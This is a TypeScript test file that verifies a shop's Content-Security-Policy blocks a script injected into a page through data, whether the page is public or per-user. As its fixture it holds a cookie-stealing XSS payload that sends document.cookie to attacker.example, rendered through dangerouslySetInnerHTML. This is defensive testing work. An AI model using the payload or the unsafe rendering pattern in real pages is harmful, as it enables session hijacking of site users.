import { createHash } from "node:crypto";
import { Hono } from "hono";
import { Outlet, Scripts } from "react-router";
import { expect, test } from "vitest";
import { SignedInMark } from "~/client/signed-in-mark.tsx";
import { testContext } from "~tests/support/context.ts";
import { onePage } from "~tests/support/one-page.ts";
import { createPageHandler } from "./pages.server.ts";

const t = testContext();
const THEIRS = "fetch('https://attacker.example/'+document.cookie)";

/** A shop of one page, into which data brings a script. */
function Root() {
  return (
    <html lang="en">
      <head>
        <SignedInMark />
      </head>
      <body>
        <Outlet />
        <Scripts />
      </body>
    </html>
  );
}
function Page() {
  // biome-ignore lint/security/noDangerouslySetInnerHtml: what the shop's own pages must never do
  return <div dangerouslySetInnerHTML={{ __html: `<script>${THEIRS}</script>` }} />;
}
const hashOf = (script: string) =>
  `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

test.each([
  ["kept for everyone", true],
  ["made for one", false],
])("a script that data brings into a page %s is not allowed to run", async (_, isPublic) => {
  const app = new Hono().all(
    "*",
    createPageHandler(t.ctx, async () => onePage({ Root, Page, isPublic }), "production"),
  );
  const answer = await app.request("http://shop.test/page");
  const html = await answer.text();
  const policy = answer.headers.get("content-security-policy")!;
  const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, code]) => code!);
  expect(scripts).toContain(THEIRS);
  expect(html).not.toContain("nonce");
  for (const script of scripts) {
    expect([script, policy.includes(hashOf(script))]).toEqual([script, script !== THEIRS]);
  }
  expect(scripts.length).toBeGreaterThan(3);
  expect(policy).toContain("connect-src 'self' ws://shop.test;");
});
